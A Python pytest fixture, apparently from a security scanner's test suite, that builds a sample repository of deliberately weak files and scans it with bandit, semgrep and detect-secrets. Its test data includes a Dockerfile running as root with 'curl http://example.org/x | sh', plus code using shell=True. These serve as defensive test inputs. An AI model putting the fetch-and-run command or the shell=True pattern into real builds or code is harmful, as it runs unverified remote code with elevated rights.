"""One small weak application, scanned once with everything, for the tests that only look at what came of it."""

from __future__ import annotations

import pytest

from tests.support.command import run_scangate
from tests.support.sample_trees import CLEAN_SOURCE, WEAK_SOURCE, create_repository, write_policy
from tests.support.scanned_project import ScannedProject


@pytest.fixture(scope="session")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> ScannedProject:
    root = tmp_path_factory.mktemp("scanned")
    files: dict[str, str | bytes] = {
        "app.py": WEAK_SOURCE,
        "waived.py": WEAK_SOURCE.replace("shell=True)", "shell=True)  # nosec"),
        "adding.py": CLEAN_SOURCE,
        "broken.py": "def f(:\n",
        "Dockerfile": "FROM python:3.12\nUSER root\nRUN curl http://example.org/x | sh\n",
    }
    tree = create_repository(root / "tree", files)
    rules = write_policy(root / "policy.yaml", "bandit", "semgrep", "detect-secrets")
    out = root / "out"
    ran = run_scangate("scan", tree, "--policy", rules, "--output-dir", out, "--report", f"env={out / 'env'}", cwd=root)
    return ScannedProject(tree, rules, ran, out)
